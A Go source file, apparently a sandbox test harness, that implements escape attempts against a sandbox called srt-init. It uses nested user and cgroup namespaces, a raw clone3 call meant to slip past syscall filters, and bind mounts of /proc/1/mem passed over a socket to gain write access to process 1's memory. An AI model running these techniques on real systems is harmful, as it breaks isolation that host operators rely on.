package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The techniques of this file use what allowNestedUserNamespaces allows, mounts of
// the command's own, against what stays with srt-init.
var nestedTechniques = []technique{
	{"nested: mounted entries of process 1", mountedEntries},
	{"inner: mount entries of process 1", mountEntries},
	{"nested: cgroups", func() error { return cloneWith(unix.CLONE_NEWUSER | unix.CLONE_NEWCGROUP) }},
	{"nested: cgroups by clone3", cgroupsByClone3},
	{"nested: user namespace", func() error { return cloneWith(unix.CLONE_NEWUSER) }},
}

// mountedEntries has a process with mounts of its own open what it mounted at the
// entries of this one, and uses that from outside of those mounts.
func mountedEntries() error {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	theirs := os.NewFile(uintptr(pair[1]), "theirs")
	defer unix.Close(pair[0])
	cmd := exec.Command("attack", "inner: mount entries of process 1")
	cmd.ExtraFiles = []*os.File{theirs}
	cmd.SysProcAttr = mountsOfItsOwn()
	cmd.Stdout = os.Stderr
	if err := cmd.Start(); err != nil {
		return err
	}
	defer cmd.Wait()
	theirs.Close()
	defer unix.Shutdown(pair[0], unix.SHUT_RDWR)
	control := make([]byte, unix.CmsgSpace(3*4))
	_, n, _, _, err := unix.Recvmsg(pair[0], make([]byte, 1), control, 0)
	if err != nil {
		return err
	}
	messages, err := unix.ParseSocketControlMessage(control[:n])
	if err != nil || len(messages) != 1 {
		return errors.Join(err, errors.New("nothing was mounted"))
	}
	fds, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		return err
	}
	err = unix.ENOENT
	for _, flags := range []int{unix.O_RDWR, unix.O_RDWR | unix.O_CREAT} {
		for i, name := range []string{"mem", "proc/mem", "mem"} {
			fd, e := unix.Openat(fds[i], name, flags, 0o600)
			if e == nil {
				unix.Close(fd)
				return nil
			}
			err = e
		}
		within := fmt.Sprintf("/proc/%d/root", cmd.Process.Pid)
		if err = everyOpen(within+memoryOf(os.Getpid()), within+"/mnt/proc/mem"); err == nil {
			return nil
		}
	}
	return err
}

// cgroupsByClone3 has the flags where no filter looks.
func cgroupsByClone3() error {
	arguments := [8]uint64{unix.CLONE_NEWUSER | unix.CLONE_NEWCGROUP, 4: uint64(unix.SIGCHLD)}
	pid, _, e := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&arguments)), unsafe.Sizeof(arguments), 0)
	if e == 0 && pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT, 0, 0, 0)
	}
	if e == 0 {
		_, _ = unix.Wait4(int(pid), nil, 0, nil)
	}
	return asError(e)
}

// mountEntries is the inner part: the directory itself, one in a directory of its
// own, and the memory alone.
func mountEntries() error {
	at := fmt.Sprintf("/proc/%d", os.Getppid())
	err := errors.Join(
		unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""),
		unix.Mount("/proc/1", at, "", unix.MS_BIND, ""),
		unix.Mount("none", "/mnt", "tmpfs", 0, ""),
		os.Mkdir("/mnt/proc", 0o700), os.WriteFile("/mnt/mem", nil, 0o600),
		unix.Mount("/proc/1", "/mnt/proc", "", unix.MS_BIND, ""),
		unix.Mount("/proc/1/mem", "/mnt/mem", "", unix.MS_BIND, ""))
	if err != nil {
		return err
	}
	var fds []int
	for _, name := range []string{at, "/mnt", "/mnt"} {
		fd, err := unix.Open(name, unix.O_PATH|unix.O_DIRECTORY, 0)
		if err != nil {
			return err
		}
		fds = append(fds, fd)
	}
	if err := unix.Sendmsg(3, []byte{0}, unix.UnixRights(fds...), nil, 0); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, os.NewFile(3, "socket")) // as long as the mounts are wanted
	return errors.Join(err, errors.New("over"))
}
